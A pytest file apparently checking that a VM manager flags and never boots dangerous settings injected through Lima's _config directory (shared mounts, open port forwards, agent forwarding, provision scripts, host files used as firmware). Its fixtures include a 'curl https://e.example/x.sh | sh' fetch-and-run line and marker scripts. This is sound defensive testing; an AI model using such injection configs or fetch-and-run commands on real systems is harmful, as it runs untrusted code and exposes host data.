"""What `$LIMA_HOME/_config` injects into an instance is stopped before its first boot, on the simulator and for real.

`create` boots nothing, so the image need not be one.
"""

from __future__ import annotations

import json
import re

import pytest

from tests.conftest import Dvm

TEMPLATE = "vmType: qemu\narch: x86_64\nimages:\n- location: {image}\n  arch: x86_64\n"
FORWARD = "portForwards:\n- guestPort: 80\n  hostPort: 8080\n  static: true\n"
KINDS = {
    "mount": ("DVM301", "mounts:\n- location: {home}\n  writable: true\n", "standard"),
    "forward on every address": ("DVM302", f"{FORWARD}  hostIP: 0.0.0.0\n", "strict"),
    "undeclared forward": ("DVM303", FORWARD, "strict"),
    "every port": ("DVM303", "portForwards:\n- guestPortRange: [1, 65535]\n  guestIP: 127.0.0.1\n", "standard"),
    "VNC on every address": ("DVM302", "video:\n  display: vnc=0.0.0.0:0\n", "strict"),
    "agent": ("DVM304", "ssh:\n  forwardAgent: true\n", "strict"),
    "X11": ("DVM304", "ssh:\n  forwardX11: true\n", "strict"),
    "trusted X11": ("DVM304", "ssh:\n  forwardX11: true\n  forwardX11Trusted: true\n", "strict"),
    "network": ("DVM305", "networks:\n- lima: user-v2\n", "strict"),
    "provision": ("DVM306", "provision:\n- mode: system\n  script: touch /owned\n", "strict"),
    "yq": ("DVM306", "provision:\n- {mode: yq, expression: .a = 1, path: /etc/a.yaml}\n", "strict"),
    "playbook": ("DVM306", "provision:\n- mode: ansible\n  playbook: {home}/key\n", "strict"),
    "probe": ("DVM306", "probes:\n- mode: readiness\n  script: |\n    #!/bin/sh\n    touch /tmp/owned\n", "strict"),
    "copyToHost": ("DVM307", "copyToHost:\n- guest: /etc/hostname\n  host: {home}/x\n", "strict"),
    "proxies": ("DVM308", "propagateProxyEnv: true\n", "strict"),
    "proxy by hand": ("DVM308", "env:\n  http_proxy: http://me:hunter2@proxy.example:1\n", "strict"),
    "socket": (
        "DVM309",
        "portForwards:\n- guestSocket: /run/a.sock\n  hostSocket: {home}/a.sock\n  static: true\n",
        "strict",
    ),
    "reverse": (
        "DVM309",
        "portForwards:\n- guestSocket: /run/a.sock\n  hostSocket: {home}/a.sock\n  reverse: true\n  static: true\n",
        "strict",
    ),
    "disk": ("DVM312", "additionalDisks:\n- name: data\n", "strict"),
    "host file as a certificate": ("DVM312", "caCerts:\n  files: [{home}/key]\n", "strict"),
    "image": ("DVM312", "images:\n- location: {home}/image\n  arch: x86_64\n", "strict"),
    "host file as an initial RAM disk": (
        "DVM312",
        "images:\n- {location: {home}/image, arch: x86_64, initrd: {location: {home}/key}}\n",
        "strict",
    ),
    "firmware": ("DVM312", "firmware:\n  images: [{location: {home}/key, vmType: qemu}]\n", "strict"),
    "public keys": ("DVM312", "ssh:\n  loadDotSSHPubKeys: true\n", "strict"),
    "sound": ("DVM312", "audio:\n  device: pa\n  interface: virtio\n", "strict"),
}
# Of plain values DVM sets its own in the instance, which is stronger than default.yaml's.
SET_BY_DVM = {"agent", "X11", "trusted X11", "proxies", "public keys", "sound"}
CASES = [
    (kind, name) for kind in KINDS for name in ("override", "default") if not (name == "default" and kind in SET_BY_DVM)
]
# base.yaml is merged once, before what `create` sets: mounts, forwards and plain values of its do not get through.
FROM_BASE = (
    "VNC on every address",
    "network",
    "provision",
    "yq",
    "probe",
    "copyToHost",
    "proxy by hand",
    "disk",
    "image",
    "firmware",
)
CASES += [("host file as an initial RAM disk", "base")]
CASES += [(kind, "base") for kind in (*FROM_BASE, "host file as a certificate")]


def _together(cases: list[tuple[str, str]]) -> list[tuple[str, list[str]]]:
    """Return the cases as files with as many kinds each as can be told apart: by their keys, and by their codes."""
    files: list[tuple[str, list[str]]] = []
    for kind, name in cases:
        for file, kinds in files:
            if file == name and all(_apart(kind, other) for other in kinds):
                kinds.append(kind)
                break
        else:
            files.append((name, [kind]))
    return files


def _apart(one: str, other: str) -> bool:
    (code, text, isolation), (other_code, other_text, other_isolation) = KINDS[one], KINDS[other]
    keys, other_keys = (set(re.findall(r"^\w+", each, re.MULTILINE)) for each in (text, other_text))
    return isolation == other_isolation and code != other_code and not keys & other_keys


FILES = _together(CASES)
REPLACED = sorted(KINDS.keys() - {kind for kind, name in CASES if name == "base"} - {"playbook"})
# What base.yaml pulls in or has run on the host is seen before anything is created.
PULLED = {
    "base": "base: ./other.yaml\n",
    "base of Lima's own": "base: template:docker\n",
    "file": "provision:\n- mode: system\n  file: ./other.yaml\n",
    "file of a probe": "probes:\n- file: ./other.yaml\n",
    "playbook": KINDS["playbook"][1],
}


@pytest.fixture
def either(either: Dvm) -> Dvm:
    """The same, with a template."""
    either.write("t.yaml", TEMPLATE.format(image=either.place / "image"))
    return either


@pytest.mark.parametrize(("name", "kinds"), FILES, ids=[f"{name}-{kinds[0]}" for name, kinds in FILES])
def test_what_is_injected_is_never_booted(either: Dvm, name: str, kinds: list[str]) -> None:
    codes, text = [KINDS[kind][0] for kind in kinds], "".join(KINDS[kind][1] for kind in kinds)
    isolation = KINDS[kinds[0]][2]
    path = either.lima_home / "_config" / f"{name}.yaml"
    path.parent.mkdir(mode=0o700, exist_ok=True)
    path.write_text(text.replace("{home}", str(either.place)))
    path.chmod(0o600)
    either.manifest(f'[vm.app]\ntemplate = "./t.yaml"\nisolation = "{isolation}"\n')
    result = either.run("apply", "-y")
    said = result.out + result.err
    assert result.code == 3, said
    assert [code for code in codes if code not in said] == [], said
    assert str(path) in said
    assert "hunter2" not in said
    (line,) = either.limactl("list", "--json").out.splitlines()
    assert '"status":"Stopped"' in line.replace(": ", ":")
    assert '"sshLocalPort"' not in line
    again = either.run("plan")
    assert again.code == 3
    assert [code for code in codes if code not in again.out] == [], again.out


@pytest.mark.parametrize("kind", REPLACED)
def test_what_base_yaml_brings_of_what_dvm_sets_is_replaced(either: Dvm, kind: str) -> None:
    _, text, isolation = KINDS[kind]
    path = either.lima_home / "_config" / "base.yaml"
    path.parent.mkdir(mode=0o700, exist_ok=True)
    path.write_text(text.replace("{home}", str(either.place)))
    path.chmod(0o600)
    either.manifest(f'[vm.app]\ntemplate = "./t.yaml"\nisolation = "{isolation}"\nrunning = false\n')
    assert either.run("apply", "-y").code == 0
    again = either.run("plan", "--detailed-exitcode")
    assert (again.code, again.out.splitlines()[-1]) == (0, "No changes. Your VMs match the manifest.")
    (line,) = [json.loads(text) for text in either.limactl("list", "--json").out.splitlines()]
    config = line["config"]
    assert not config.get("mounts")
    assert [rule for rule in config.get("portForwards", ()) if not rule.get("ignore")] == []
    assert (config["ssh"]["forwardAgent"], config["ssh"]["forwardX11"]) == (False, False)
    assert config["propagateProxyEnv"] is False
    assert config["ssh"]["loadDotSSHPubKeys"] is False
    assert config["audio"]["device"] in {"", "none"}


@pytest.mark.parametrize("kind", PULLED)
def test_what_base_yaml_pulls_in_is_not_even_created(either: Dvm, kind: str) -> None:
    config = either.lima_home / "_config"
    config.mkdir(mode=0o700, exist_ok=True)
    path = config / "base.yaml"
    path.write_text(PULLED[kind].replace("{home}", str(either.place)))
    path.chmod(0o600)
    (config / "other.yaml").write_text("provision: [{script: curl https://e.example/x.sh | sh}]\n")
    either.manifest('[vm.app]\ntemplate = "./t.yaml"\n')
    result = either.run("apply", "-y")
    assert result.code == 3, result.out + result.err
    assert "DVM111" in result.out + result.err
    assert str(path) in result.out + result.err
    assert either.limactl("list", "--json").out == ""


def test_what_base_yaml_injects_is_found_as_well(either: Dvm) -> None:
    """Lima merges it once, into the template, at create."""
    path = either.lima_home / "_config" / "base.yaml"
    path.parent.mkdir(mode=0o700, exist_ok=True)
    path.write_text(
        "provision:\n- mode: system\n  script: touch /owned\ncopyToHost:\n- guest: /etc/hostname\n  host: /x\n"
    )
    path.chmod(0o600)
    either.manifest('[vm.app]\ntemplate = "./t.yaml"\n')
    result = either.run("apply", "-y")
    said = result.out + result.err
    assert result.code == 3, said
    assert "DVM307" in said
    assert "DVM306" in said
    (line,) = either.limactl("list", "--json").out.splitlines()
    assert '"sshLocalPort"' not in line
